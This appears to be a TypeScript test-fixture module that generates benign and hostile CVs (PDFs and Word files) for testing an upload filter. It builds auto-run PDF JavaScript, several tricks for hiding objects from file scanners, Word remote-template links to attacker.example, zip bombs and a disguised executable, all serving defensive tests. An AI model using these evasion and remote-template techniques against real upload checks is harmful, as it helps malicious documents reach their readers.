import { deflateSync } from "node:zlib";
import { ZipFile } from "yazl";

/**
 * CVs for tests: real, well-formed PDFs and Word documents, and the hostile files a CV upload
 * must refuse. Built here rather than checked in, so each shows what makes it good or bad.
 */

/** A PDF with its objects in order and a correct cross-reference table. */
export function pdf(objects: string[], extra: Buffer[] = []): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const offsets: number[] = [];
  let length = parts[0]!.length;
  const bodies = [...objects.map((object) => Buffer.from(object, "latin1")), ...extra];
  bodies.forEach((body, index) => {
    offsets.push(length);
    const object = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      body,
      Buffer.from("\nendobj\n"),
    ]);
    parts.push(object);
    length += object.length;
  });
  const xref = [
    "xref",
    `0 ${bodies.length + 1}`,
    "0000000000 65535 f ",
    ...offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n `),
    "trailer",
    `<< /Size ${bodies.length + 1} /Root 1 0 R /Info 2 0 R >>`,
    "startxref",
    String(length),
    "%%EOF",
  ].join("\n");
  parts.push(Buffer.from(xref));
  return Buffer.concat(parts);
}

const page = (text: string) => `BT /F1 12 Tf 72 720 Td (${text}) Tj ET`;

/** A one-page CV whose text (and title) mention "Node/JS": words, not actions. */
export function plainPdf(text = "Mei Lin - Data Analyst - Node/JS and SQL"): Buffer {
  const content = deflateSync(Buffer.from(page(text)));
  return pdf(
    [
      "<< /Type /Catalog /Pages 3 0 R >>",
      `<< /Title (CV \\(Node/JS\\) of Mei Lin) /Producer (Test) >>`,
      "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
    ],
    [
      Buffer.concat([
        Buffer.from(`<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n`),
        content,
        Buffer.from("\nendstream"),
      ]),
    ],
  );
}

/** Runs a script when opened, written plainly. */
export const pdfWithJavaScript = () =>
  pdf([
    "<< /Type /Catalog /Pages 3 0 R /OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> >>",
    "<< /Title (CV) >>",
    "<< /Type /Pages /Kids [] /Count 0 >>",
  ]);

/** The same, with the name spelled in #-escapes that readers decode. */
export const pdfWithEscapedJavaScript = () =>
  pdf([
    "<< /Type /Catalog /Pages 3 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
    "<< /Title (CV) >>",
    "<< /Type /Pages /Kids [] /Count 0 >>",
  ]);

/** The action hidden in a compressed object stream, where a plain search of the bytes misses it. */
export function pdfWithCompressedJavaScript(): Buffer {
  const hidden = "<< /S /JavaScript /JS (app.launchURL\\('https://example.com'\\)) >>";
  const objects = deflateSync(Buffer.from(`6 0 ${hidden}`));
  return pdf(
    [
      "<< /Type /Catalog /Pages 3 0 R /OpenAction 6 0 R >>",
      "<< /Title (CV) >>",
      "<< /Type /Pages /Kids [] /Count 0 >>",
    ],
    [
      Buffer.concat([
        Buffer.from(
          `<< /Type /ObjStm /N 1 /First 4 /Length ${objects.length} /Filter /FlateDecode >>\nstream\n`,
        ),
        objects,
        Buffer.from("\nendstream"),
      ]),
    ],
  );
}

/** A script in object 4, which the catalogue opens with; `around` wraps that object in junk. */
function pdfHidingScript(around: (object: string) => string): Buffer {
  const script = "4 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n";
  const clean = pdf([
    "<< /Type /Catalog /Pages 3 0 R /OpenAction 4 0 R >>",
    "<< /Title (CV) >>",
    "<< /Type /Pages /Kids [] /Count 0 >>",
  ]).toString("latin1");
  const at = clean.indexOf("xref");
  return Buffer.from(`${clean.slice(0, at)}${around(script)}${clean.slice(at)}`, "latin1");
}

/**
 * Tricks that hide an object from a scan that reads the file front to back, while viewers,
 * which find objects by their offsets, still run it.
 */
export const pdfEvasions = () => ({
  "a string opened between objects": pdfHidingScript((object) => `(\n${object})\n`),
  "a stray stream keyword": pdfHidingScript((object) => `stream\n${object}endstream\n`),
  "a comment": pdfHidingScript((object) => `% ${object.replaceAll("\n", " ")}\n`),
  "an object stream without its type": (() => {
    const objects = deflateSync(Buffer.from("6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"));
    return pdf(
      [
        "<< /Type /Catalog /Pages 3 0 R /OpenAction 6 0 R >>",
        "<< /Title (CV) >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
      ],
      [
        Buffer.concat([
          Buffer.from(
            `<< /N 1 /First 4 /Length ${objects.length} /Filter /FlateDecode >>\nstream\n`,
          ),
          objects,
          Buffer.from("\nendstream"),
        ]),
      ],
    );
  })(),
  "an attached file": pdf([
    "<< /Type /Catalog /Pages 3 0 R >>",
    "<< /Title (CV) >>",
    "<< /Type /Pages /Kids [] /Count 0 >>",
    "<< /Type /Annot /Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> >>",
  ]),
});

async function zip(entries: Record<string, string | Buffer>): Promise<Buffer> {
  const archive = new ZipFile();
  for (const [name, content] of Object.entries(entries)) {
    archive.addBuffer(typeof content === "string" ? Buffer.from(content) : content, name);
  }
  archive.end();
  const chunks: Buffer[] = [];
  for await (const chunk of archive.outputStream as AsyncIterable<Buffer>) chunks.push(chunk);
  return Buffer.concat(chunks);
}

const WORD_MAIN =
  "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml";
const contentTypes = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
const packageRels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
const documentXml = (text: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;
const settingsRels = (target: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;

const wordParts = (main = WORD_MAIN) => ({
  "[Content_Types].xml": contentTypes(main),
  "_rels/.rels": packageRels,
  "word/document.xml": documentXml("Mei Lin, Data Analyst"),
});

/** A Word document made from a template on the writer's own disk, as most are. */
export const plainDocx = () =>
  zip({
    ...wordParts(),
    "word/_rels/settings.xml.rels": settingsRels("file:///C:\\Users\\mei\\Templates\\Resume.dotx"),
  });

export const docxWithMacros = () =>
  zip({ ...wordParts(MACRO_MAIN), "word/vbaProject.bin": Buffer.from("macro bytes") });

/** Fetches a template from a server when opened: how remote-template attacks start. */
export const docxWithRemoteTemplate = () =>
  zip({
    ...wordParts(),
    "word/_rels/settings.xml.rels": settingsRels("https://attacker.example/template.dotm"),
  });

/** A Word document's parts and 80 MB of zeros that pack into a few kilobytes. */
export const zipBombDocx = () =>
  zip({ ...wordParts(), "word/media/image1.png": Buffer.alloc(80 * 1024 * 1024) });

/** Sets the unpacked size a zip declares for its part `name` (local header and directory). */
function declareSize(archive: Buffer, name: string, size: number): Buffer {
  const patched = Buffer.from(archive);
  const encoded = Buffer.from(name);
  for (const [signature, nameAt, sizeAt] of [
    [0x04034b50, 30, 22],
    [0x02014b50, 46, 24],
  ] as const) {
    for (let at = patched.indexOf(encoded); at !== -1; at = patched.indexOf(encoded, at + 1)) {
      const header = at - nameAt;
      if (header >= 0 && patched.readUInt32LE(header) === signature) {
        patched.writeUInt32LE(size, header + sizeAt);
      }
    }
  }
  return patched;
}

const relationship = (attributes: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" ${attributes}/></Relationships>`;
const TEMPLATE =
  "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate";
const REMOTE = "https://attacker.example/t.dotm";

/** Ways of writing what the .docx check must refuse that a check of raw text would miss. */
export const docxEvasions = async () => ({
  "single quotes": await zip({
    ...wordParts(),
    "word/_rels/settings.xml.rels": relationship(
      `Type='${TEMPLATE}' Target='${REMOTE}' TargetMode='External'`,
    ),
  }),
  "spaces and an entity": await zip({
    ...wordParts(),
    "word/_rels/settings.xml.rels": relationship(
      `Type = "${TEMPLATE}" Target="${REMOTE}" TargetMode="Extern&#97;l"`,
    ),
  }),
  "an upper-case, UTF-16 part": await zip({
    ...wordParts(),
    "word/_rels/settings.xml.RELS": Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(
        relationship(`Type="${TEMPLATE}" Target="${REMOTE}" TargetMode="External"`),
        "utf16le",
      ),
    ]),
  }),
  "an object outside its folder": await zip({
    ...wordParts(),
    "word/media/ole1.bin": Buffer.from("an OLE object"),
  }),
  "a remote image": await zip({
    ...wordParts(),
    "word/_rels/document.xml.rels": relationship(
      `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="\\\\server\\share\\a.png" TargetMode="External"`,
    ),
  }),
  "a zip bomb that understates its size": declareSize(
    await zip({ ...wordParts(), "word/media/image1.png": Buffer.alloc(80 * 1024 * 1024) }),
    "word/media/image1.png",
    1000,
  ),
});

/** A Windows program's first bytes, named like a CV. */
export const renamedExecutable = () =>
  Buffer.concat([Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), Buffer.alloc(4096)]);
